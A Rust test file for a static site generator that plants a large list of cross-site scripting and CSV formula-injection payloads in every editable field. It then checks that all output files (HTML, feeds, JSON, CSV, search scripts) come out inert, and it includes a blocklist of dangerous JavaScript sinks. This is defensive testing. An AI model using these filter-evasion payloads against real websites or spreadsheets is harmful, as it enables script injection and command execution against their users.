#![allow(clippy::unwrap_used)]
//! Cross-site scripting, tried as an attacker would: classic filter-evasion
//! payloads put everywhere an editor can write (raw HTML in Markdown, link
//! and image addresses, reference definitions, headings, lists, the title,
//! summary and string fields that templates show, `extra`, tags, aliases,
//! a Markdown field, file names) of the portal built with its campus theme.
//! Every output file is then read back as its reader would: HTML pages by
//! html5ever, feeds by an XML parser (and the HTML they carry by html5ever),
//! search index files and open data as JSON, CSV by a CSV reader. Nothing
//! active may survive anywhere:
//!
//! - no script element but the theme's own, which are exactly
//!   `js/search.<hash>.js` and `js/filter.<hash>.js` (by `src`, no inline
//!   code) and the page's structured data
//!   (`<script type="application/ld+json">`, which must parse as JSON so
//!   nothing broke out of it);
//! - no event handler, `style`, `srcdoc` or `formaction` attribute, no
//!   `<svg>`/`<math>`, frame, object or form of the content;
//! - no `javascript:`, `vbscript:` or `data:` address (after entities are
//!   decoded and spaces and control characters dropped as browsers do);
//! - search index files are a data call, `parvisSearch.kind(JSON)`, whose
//!   values the client only ever inserts as text (checked below too);
//! - open data: JSON that parses, CSV cells that a spreadsheet cannot run.
//!
//! Payloads a build refuses (as a `slug`, as a `url` field) are refused
//! with an error naming the file.

mod common;

use std::path::Path;

use common::html_checks::{self, assert_inert, Inertness};
use common::{snapshot_tree, TestSite};

/// The payloads, each placed in every spot an editor writes.
#[rustfmt::skip]
const PAYLOADS: &[&str] = &[
    // Script elements, however written.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    // Event handlers.
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=\"x\" alt=\"x\"onerror=\"alert(1)\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<a href=\"x\" onclick=\"alert(1)\"onmouseover=alert(2)>x</a>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<div onpointerenter=alert(1) tabindex=0 autofocus onfocus=alert(2)>x</div>",
    "<audio src=x onerror=alert(1)>",
    "<video poster=javascript:alert(1)//></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    // javascript: addresses: case, entities, whitespace, control characters.
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=javascript:alert(1)>x</a>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<a href=\"&#1;javascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"java&Tab;script:alert(1)\">x</a>",
    "<a href=\"java&NewLine;script:alert(1)\">x</a>",
    "<a href=\"  JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"jav&#x61;script:alert(1)\">x</a>",
    "<a href=\"&#x6A;avascript&#x3A;alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"VBScript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"DaTa:text/html,<script>alert(1)</script>\">x</a>",
    "<img srcset=\"javascript:alert(1) 1x, x 2x\">",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<a href=\"javascript:alert(1)\"",
    // SVG and MathML.
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=\"href\" to=\"javascript:alert(1)\"/></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<math><mi xlink:href=\"data:x,<script>alert(1)</script>\">x</mi></math>",
    // Frames, objects, forms, srcdoc, formaction.
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
    "<form><button formaction=\"javascript:alert(1)\">x</button></form>",
    "<input type=\"image\" formaction=javascript:alert(1) src=x>",
    "<form action=javascript:alert(1)><input type=submit>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<link rel=\"stylesheet\" href=\"javascript:alert(1)\">",
    // Styles.
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width: expression(alert(1));\">x</div>",
    "<span STYLE=\"xss:expr/*XSS*/ession(alert('XSS'))\">x</span>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(\"javascript:alert(1)\")}</style>",
    // Broken tags, comments, CDATA, raw-text elements.
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<!--",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<div <script>alert(1)</script>>x</div>",
    "<a href=\"x\"<script>alert(1)</script>>x</a>",
    "<img src=x onerror=alert(1)",
    "< script>alert(1)</script>",
    // Text that must stay text.
    "{{ 7*191 }} {% if true %}oui{% endif %} {{ config.base_url }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "=HYPERLINK(\"http://xss.example\",\"x\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u{2028}\u{2029}</script><!--",
];

/// Addresses for Markdown links, images, reference definitions and
/// autolinks, and for raw `href`/`src`. (A relative address that tries to
/// break out of its attribute is a dead link, an error of its own.)
#[rustfmt::skip]
const ADDRESSES: &[&str] = &[
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "java&#x09;script:alert(1)",
    "javascript&colon;alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:image/svg+xml,<svg onload=alert(1)>",
    "livescript:alert(1)",
    "java%0ascript:alert(1)",
    "https://example.org/x\" onmouseover=\"alert(1)",
    "https://example.org/x' onmouseover='alert(1)",
    "https://example.org/\"><script>alert(1)</script>",
];

/// A string for YAML: JSON's double-quoted form is YAML's too.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}

fn news(i: usize, payload: &str) -> String {
    let q = quoted(payload);
    let tag = quoted(&format!("{payload} xss{i}"));
    format!(
        "---\ntitle: {q}\ndate: 2026-01-01\nsummary: {q}\nauthor: {q}\ntags: [{tag}]\n\
         extra: {{note: {q}, lien: {q}}}\naliases: [{alias}]\n---\n\
         {payload}\n\nParagraphe : {payload} fin.\n\n## {payload}\n\n- {payload}\n\n> {payload}\n\n\
         | a | b |\n|---|---|\n| {payload} | x |\n",
        alias = quoted(&format!("/ancien/{payload}/")),
    )
}

fn operator(i: usize, payload: &str) -> String {
    let q = quoted(payload);
    format!(
        "---\ntitle: {q}\nacronym: {q}\nfull_name: {q}\nwebsite: {url}\nrole: {q}\nsummary: {q}\n---\n{payload}\n",
        url = quoted(&format!("https://example.org/{i}\"><script>alert(1)</script>")),
    )
}

fn institute(payload: &str) -> String {
    let q = quoted(payload);
    format!(
        "---\ntitle: {q}\nacronym: {q}\nfull_name: {q}\nfocus: {q}\nsummary: {q}\n---\n{payload}\n"
    )
}

fn startup(payload: &str) -> String {
    let q = quoted(payload);
    format!(
        "---\ntitle: {q}\nsummary: {q}\nwebsite: {url}\nsectors: [prevention]\n---\n{payload}\n",
        url = quoted("https://example.org/'onmouseover='alert(1)"),
    )
}

fn links(i: usize, address: &str) -> String {
    format!(
        "---\ntitle: Liens {i}\ndate: 2026-01-02\nsummary: Adresses piégées.\n---\n\
         [lien](<{address}>) [lien]({address}) ![image](<{address}>) [réf][r{i}] ![réf][r{i}] <{address}>\n\n\
         <a href=\"{address}\">a</a> <img src=\"{address}\" alt=\"i\"> <a href='{address}'>b</a> <a href={address}>c</a>\n\n\
         [r{i}]: <{address}> \"titre\"\n"
    )
}

/// The portal, with every payload in every place an editor writes.
fn hostile_portal() -> TestSite {
    let site = TestSite::portal();
    // Payloads load `x` or `1` (as `<img src=x onerror=…>` does): files
    // beside the entries, so those links are not dead.
    for collection in ["news", "operators", "institutes", "startups"] {
        for file in ["x", "1"] {
            site.write(&format!("content/{collection}/{file}"), "x");
        }
    }
    for (i, payload) in PAYLOADS.iter().enumerate() {
        site.write(&format!("content/news/xss-{i}.md"), news(i, payload));
        site.write(
            &format!("content/operators/xss-{i}.md"),
            operator(i, payload),
        );
        site.write(
            &format!("content/institutes/xss-{i}.md"),
            institute(payload),
        );
        site.write(&format!("content/startups/xss-{i}.md"), startup(payload));
    }
    for (i, address) in ADDRESSES.iter().enumerate() {
        site.write(&format!("content/news/liens-{i}.md"), links(i, address));
    }
    // File names become addresses and titles of translations.
    for name in ["<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>"] {
        site.write(
            &format!("content/news/{name}.md"),
            "---\ntitle: Nom de fichier\ndate: 2026-01-03\n---\nx\n",
        );
    }
    site
}

#[test]
fn no_payload_survives_in_any_output_file() {
    let site = hostile_portal();
    let run = site.build();
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    let out = site.path("public");
    let files = snapshot_tree(&out);
    let mut checked = 0;
    for (path, bytes) in &files {
        checked += check_file(&site, path, bytes);
    }
    assert!(checked > 400, "only {checked} files checked");
    payloads_are_shown_as_text(&site);
}

/// The checks above can fail: with the sanitizer switched off
/// (`unsafe_html = true`), they find the payloads of the raw HTML in most
/// entries' pages. Were they blind (a parser or a list gone wrong), the
/// test above would pass whatever parvis wrote.
#[test]
fn the_checks_see_the_payloads_when_the_sanitizer_is_off() {
    let site = hostile_portal();
    let config = site.read("site.toml");
    site.write("site.toml", format!("unsafe_html = true\n{config}"));
    // Unsanitized, the script addresses of these are dead links (errors).
    for i in 0..ADDRESSES.len() {
        site.remove(&format!("content/news/liens-{i}.md"));
    }
    let run = site.build();
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    let flagged = (0..PAYLOADS.len())
        .filter(|i| {
            let page = site.output(&format!("actualites/xss-{i}/index.html"));
            !html_checks::problems(&page, Inertness::Page).is_empty()
        })
        .count();
    assert!(
        flagged * 2 > PAYLOADS.len(),
        "only {flagged} of {} pages flagged",
        PAYLOADS.len()
    );
}

/// Checks one output file as its reader reads it; 1 if it was checked.
fn check_file(site: &TestSite, path: &str, bytes: &[u8]) -> usize {
    let text = String::from_utf8(bytes.to_vec()).unwrap_or_default();
    let name = path.rsplit('/').next().unwrap_or(path);
    match Path::new(name).extension().and_then(|e| e.to_str()) {
        Some("html") => assert_inert(&text, path, Inertness::Page),
        Some("xml") if name == "atom.xml" => check_atom(&text, path),
        Some("xml") => check_sitemap(&text),
        Some("json") if name == "feed.json" => check_json_feed(&text, path),
        Some("json") => check_open_data(&text, path),
        Some("csv") => check_csv(bytes, path),
        Some("js") if path.starts_with("search/") => check_search_data(&text, path),
        Some("js") if name == "cards.js" => check_cards(&text, path),
        Some("js") => check_theme_script(site, path, &text),
        _ if name == "_redirects" => check_redirects(&text),
        _ => return 0,
    }
    1
}

/// An Atom feed: well-formed XML whose HTML contents are inert, with
/// safe links.
fn check_atom(text: &str, path: &str) {
    let doc = roxmltree::Document::parse(text).unwrap_or_else(|e| panic!("{path}: {e}"));
    for node in doc.descendants().filter(|n| n.is_element()) {
        if node.attribute("type") == Some("html") {
            assert_inert(node.text().unwrap_or(""), path, Inertness::Body);
        }
        if let Some(href) = node.attribute("href") {
            assert!(html_checks::is_safe_url(href), "{path}: {href:?}");
        }
    }
}

fn check_sitemap(text: &str) {
    let doc = roxmltree::Document::parse(text).unwrap();
    for node in doc.descendants().filter(|n| n.has_tag_name("loc")) {
        let url = node.text().unwrap_or("");
        assert!(url.starts_with("https://www.parisantecampus.fr/"), "{url}");
    }
}

/// A JSON Feed: its HTML is inert, its addresses safe, its texts text.
fn check_json_feed(text: &str, path: &str) {
    let feed: serde_json::Value = serde_json::from_str(text).unwrap();
    for item in feed["items"].as_array().unwrap() {
        if let Some(html) = item["content_html"].as_str() {
            assert_inert(html, path, Inertness::Body);
        }
        for key in ["url", "id", "external_url", "image"] {
            if let Some(url) = item[key].as_str() {
                assert!(html_checks::is_safe_url(url), "{path}: {key} {url:?}");
            }
        }
    }
}

/// Open data: JSON that parses; every value typed `url` is a safe address.
fn check_open_data(text: &str, path: &str) {
    let data: serde_json::Value =
        serde_json::from_str(text).unwrap_or_else(|e| panic!("{path}: {e}"));
    let urls: Vec<&str> = data["fields"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(|f| f["type"] == "url")
        .filter_map(|f| f["name"].as_str())
        .collect();
    for entry in data["entries"].as_array().into_iter().flatten() {
        for field in &urls {
            if let Some(url) = entry[*field].as_str() {
                assert!(html_checks::is_safe_url(url), "{path}: {url:?}");
            }
        }
    }
}

/// CSV: no cell a spreadsheet would read as a formula.
fn check_csv(bytes: &[u8], path: &str) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(bytes);
    for record in reader.records() {
        let record = record.unwrap_or_else(|e| panic!("{path}: {e}"));
        for cell in &record {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{path}: formula {cell:?}"
            );
        }
    }
}

/// A search index file: exactly `parvisSearch.<kind>(<JSON>);`, so its
/// values are data, never code; the documents' paths are site paths.
fn check_search_data(text: &str, path: &str) {
    let (function, arguments) = data_call(text, path);
    let kind = function
        .strip_prefix("parvisSearch.")
        .unwrap_or_else(|| panic!("{path} calls {function}"));
    assert!(
        matches!(
            kind,
            "meta" | "docs" | "words" | "tails" | "postings" | "text"
        ),
        "{path}: {kind}"
    );
    if kind == "docs" {
        for doc in arguments[1].as_array().unwrap() {
            let site_path = doc[0].as_str().unwrap();
            assert!(
                !site_path.contains(':') && !site_path.starts_with('/'),
                "{path}: {site_path:?}"
            );
        }
    }
}

/// A data file: exactly `<function>(<JSON values>);`, so what it holds is
/// data, never code. Returns the function's name and its arguments.
fn data_call<'a>(text: &'a str, path: &str) -> (&'a str, serde_json::Value) {
    let (function, arguments) = text
        .trim_end()
        .strip_suffix(");")
        .and_then(|c| c.split_once('('))
        .unwrap_or_else(|| panic!("{path} is not a data call: {text:.80}"));
    let arguments = serde_json::from_str(&format!("[{arguments}]"))
        .unwrap_or_else(|e| panic!("{path}: not JSON ({e})"));
    (function, arguments)
}

/// A list's cards for its filter (`cards.js`): one call whose argument is
/// JSON (nothing of the content breaks out into code), and every card's
/// HTML, which the filter puts in the page, inert.
fn check_cards(text: &str, path: &str) {
    let (function, arguments) = data_call(text, path);
    assert_eq!(function, "parvisCards", "{path}");
    assert_eq!(arguments.as_array().map(Vec::len), Some(1), "{path}");
    let data = &arguments[0];
    let cards = data["cards"]
        .as_array()
        .unwrap_or_else(|| panic!("{path}: no cards"));
    for card in cards {
        let html = card["html"]
            .as_str()
            .unwrap_or_else(|| panic!("{path}: {card}"));
        assert_inert(html, path, Inertness::Body);
    }
    assert!(!cards.is_empty(), "{path}: no cards");
}

/// The theme's scripts are copied as written: nothing of the content
/// flows into code. The search client inserts what it loads as text only;
/// the list filter puts in HTML only the cards of `cards.js`, written by
/// parvis and checked inert by [`check_cards`], in one place.
fn check_theme_script(site: &TestSite, path: &str, text: &str) {
    let name = path.rsplit('/').next().unwrap();
    let stem = name.split('.').next().unwrap();
    let source = site.read(&format!("themes/campus/static/js/{stem}.js"));
    assert_eq!(text, source, "{path} differs from the theme's {stem}.js");
    let text = match stem {
        "filter" => {
            let card = "li.innerHTML = card.html.split(ROOT_MARK).join(data.root || \"\");";
            assert_eq!(text.matches(card).count(), 1, "{path}: where cards go in");
            text.replace(card, "")
        }
        _ => text.to_string(),
    };
    for sink in [
        "innerHTML",
        "outerHTML",
        "insertAdjacentHTML",
        "document.write",
        "eval(",
        "new Function",
        "setAttribute('on",
        "srcdoc",
    ] {
        assert!(!text.contains(sink), "{path} uses {sink}");
    }
}

/// `_redirects`: three fields a line, site paths only.
fn check_redirects(text: &str) {
    for line in text.lines().filter(|l| !l.starts_with('#')) {
        let fields: Vec<&str> = line.split_whitespace().collect();
        assert_eq!(fields.len(), 3, "{line:?}");
        assert!(
            fields[0].starts_with('/') && fields[1].starts_with('/'),
            "{line:?}"
        );
        assert!(!fields[1].contains(':') && fields[2] == "301", "{line:?}");
    }
}

/// The payloads reached the pages, shown as the text the editor wrote:
/// the test would prove little if they had been dropped.
fn payloads_are_shown_as_text(site: &TestSite) {
    let heading = scraper::Selector::parse("h1").unwrap();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let page = site.output(&format!("actualites/xss-{i}/index.html"));
        let page = scraper::Html::parse_document(&page);
        let title: String = page.select(&heading).next().unwrap().text().collect();
        assert_eq!(title.trim(), payload.trim(), "the title of xss-{i}");
    }
    let template = site.output(&format!(
        "actualites/xss-{}/index.html",
        PAYLOADS.iter().position(|p| p.starts_with("{{")).unwrap()
    ));
    assert!(template.contains("{{ 7*191 }}") && !template.contains("1337"));
    assert!(template.contains("{% if true %}oui{% endif %} {{ config.base_url }}"));
}

#[test]
fn hostile_slugs_and_addresses_are_refused() {
    let site = TestSite::portal();
    site.build();
    let before = snapshot_tree(&site.path("public"));
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let q = quoted(payload);
        site.write(
            &format!("content/news/slug-{i}.md"),
            format!("---\ntitle: Essai\ndate: 2026-01-01\nslug: {q}\n---\nx\n"),
        );
    }
    for (i, address) in ADDRESSES
        .iter()
        .filter(|a| !a.starts_with("http"))
        .enumerate()
    {
        let url = quoted(address);
        site.write(
            &format!("content/startups/url-{i}.md"),
            format!("---\ntitle: Essai {i}\nwebsite: {url}\n---\nx\n"),
        );
    }
    let run = site.run(&["build", "--messages", "en"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    assert!(!run.stderr.contains("panicked"), "{}", run.stderr);
    for i in 0..PAYLOADS.len() {
        let file = format!("content/news/slug-{i}.md");
        assert!(run.stderr.contains(&file), "{file} not refused");
    }
    let refused_urls = ADDRESSES.iter().filter(|a| !a.starts_with("http")).count();
    for i in 0..refused_urls {
        let file = format!("content/startups/url-{i}.md");
        assert!(run.stderr.contains(&file), "{file} not refused");
    }
    assert!(before == snapshot_tree(&site.path("public")));
}
